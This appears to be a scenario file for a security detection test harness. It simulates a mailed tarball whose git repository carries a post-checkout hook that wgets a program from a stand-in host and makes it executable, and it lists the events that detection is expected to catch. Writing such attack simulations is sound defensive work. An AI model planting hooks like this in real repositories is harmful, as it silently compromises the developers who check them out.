# A repository in an archive brings its hooks along: git itself runs them.
title="Attached repository, its checkout hook runs when a branch is made"
what="dev takes proj.tar.gz out of a message with Python, unpacks it, reads the log and makes a branch for the review. git runs the repository's own post-checkout hook, which calls 203.0.113.66 and leaves a program in ~/.local."
host=ws3.example.org user=dev daemons="cron sshd" audit_rules=audit-wide.rules

setup() {
  mkdir -p "$base/out/proj"
  (cd "$base/out/proj" && git init -q -b main . && echo "see src" > README && git add . && git -c user.name=collab -c user.email=collab@example.com commit -q -m 'Start')
  printf '#!/bin/sh\nmkdir -p "$HOME/.local/libexec"\nwget -q -O "$HOME/.local/libexec/agent" "http://drop.example.net/hook?h=$(hostname)"\nchmod +x "$HOME/.local/libexec/agent"\n' > "$base/out/proj/.git/hooks/post-checkout"
  chmod +x "$base/out/proj/.git/hooks/post-checkout"
  tar -C "$base/out" -czf "$base/out/proj.tar.gz" proj
  cat > /home/dev/parts.py <<'P'
import email, sys
for part in email.message_from_file(open(sys.argv[1])).walk():
    if part.get_filename():
        open(part.get_filename(), 'wb').write(part.get_payload(decode=True))
P
  chown dev: /home/dev/parts.py
}
act() {
  small_talk 2
  mail_in --from collab@example.com --to dev@example.org --subject "Could you review this?" --source 203.0.113.25 --helo smtp.example.com --attach "$base/out/proj.tar.gz"
  wait_log 'from=<collab@example.com>'; wait_mail dev 1
  ssh_as dev <<'L'
mkdir review; cd review
python3 ../parts.py $(grep -l 'review this' ../Maildir/new/*)
tar xzf proj.tar.gz; cd proj
git log --oneline | cat
%sleep 2
git checkout -q -b review
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<dev@example.org>.*status=sent' 'the message is delivered'
  file_step part 'python3\S* openat:write CREATE .*review/proj.tar.gz' 'the archive is taken out'
  file_step hook 'tar openat:write CREATE .*hooks/post-checkout' 'a hook is unpacked'
  exec_step checkout 'git checkout -q -b review' 'a branch is made'
  exec_step execute 'post-checkout' 'git runs the hook'
  net_step beacon 'wget 203.0.113.66:80' 'it calls out'
}
